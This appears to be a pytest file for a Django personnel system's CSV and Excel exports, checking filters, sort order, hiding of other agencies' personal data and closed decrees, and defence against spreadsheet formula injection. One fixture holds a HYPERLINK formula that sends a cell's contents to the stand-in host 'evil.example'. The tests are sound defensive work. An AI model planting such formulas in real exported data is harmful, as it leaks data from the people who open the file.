import csv
import io

import openpyxl

from spbe.org.models import Person

from ..factories import PersonFactory


def _csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_export_equals_the_filtered_sorted_list(client_a, agency_a, agency_b):
    for i in range(7):
        PersonFactory(agency=agency_a, name=f"Ani {i}", position="Analis" if i % 2 else "Arsiparis")
    PersonFactory(agency=agency_b, name="Ani Lain", position="Analis")
    query = "q=ani&position=&sort=-nip&columns=name&columns=nip&columns=position"
    page = client_a.get(f"/org/people/?{query}")
    rows = _csv_rows(client_a.get(f"/org/people/export/?{query}&format=csv"))
    # ID and version first (an edited export is imported again: core/sheets.py), then the chosen columns.
    assert rows[0] == ["ID", "Versi", "Nama", "NIP", "Jabatan"]
    people = Person.objects.filter(name__icontains="ani").order_by("-nip", "pk")
    assert [(int(r[0]), int(r[1])) for r in rows[1:]] == list(people.values_list("pk", "version"))
    rows = [r[2:] for r in rows]
    expected = [
        # Another agency's staff: name and position, not the NIP (personal data).
        (name, nip if agency == agency_a.pk else "", position)
        for name, nip, position, agency in Person.objects.filter(name__icontains="ani")
        .order_by("-nip", "pk")
        .values_list("name", "nip", "position", "agency")
    ]
    assert [tuple(r) for r in rows[1:]] == expected
    # The page shows the same rows in the same order.
    html = page.content.decode()
    positions = [html.index(nip) for _n, nip, _p in expected if nip]
    assert positions == sorted(positions)


def test_xlsx_export_respects_filters(client_a, agency_a):
    PersonFactory(agency=agency_a, name="Budi", employment="pns")
    PersonFactory(agency=agency_a, name="Cici", employment="non_asn", nip=None)
    response = client_a.get(
        "/org/people/export/?employment=non_asn&columns=name&columns=employment&format=xlsx"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [list(r)[2:] for r in sheet.iter_rows(values_only=True)] == [
        ["Nama", "Status kepegawaian"],
        ["Cici", "Non-ASN"],
    ]


def test_export_never_contains_closed_records_of_another_agency(client_a, agency_b):
    from ..factories import DecreeFactory

    DecreeFactory(agency=agency_b, classification="closed", title="Rahasia B")
    DecreeFactory(agency=agency_b, classification="limited", title="Biasa B")
    text = b"".join(client_a.get("/org/decrees/export/?format=csv").streaming_content).decode()
    assert "Biasa B" in text and "Rahasia B" not in text


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def test_csv_export_prefixes_cells_a_spreadsheet_would_evaluate(client_a, agency_a):
    PersonFactory(agency=agency_a, name=FORMULA_NAME, position="@SUM(1+1)")
    PersonFactory(agency=agency_a, name="Budi", position="-")
    rows = _csv_rows(client_a.get("/org/people/export/?columns=name&columns=position&sort=name&format=csv"))
    assert [r[2:] for r in rows[1:]] == [["'" + FORMULA_NAME, "'@SUM(1+1)"], ["Budi", "'-"]]


def test_xlsx_export_writes_formula_text_as_a_string_cell(client_a, agency_a):
    PersonFactory(agency=agency_a, name=FORMULA_NAME, position="+62 811")
    response = client_a.get("/org/people/export/?columns=name&columns=position&format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    name, position = sheet["C2"], sheet["D2"]
    assert (name.value, name.data_type) == (FORMULA_NAME, "s")
    assert (position.value, position.data_type) == ("+62 811", "s")
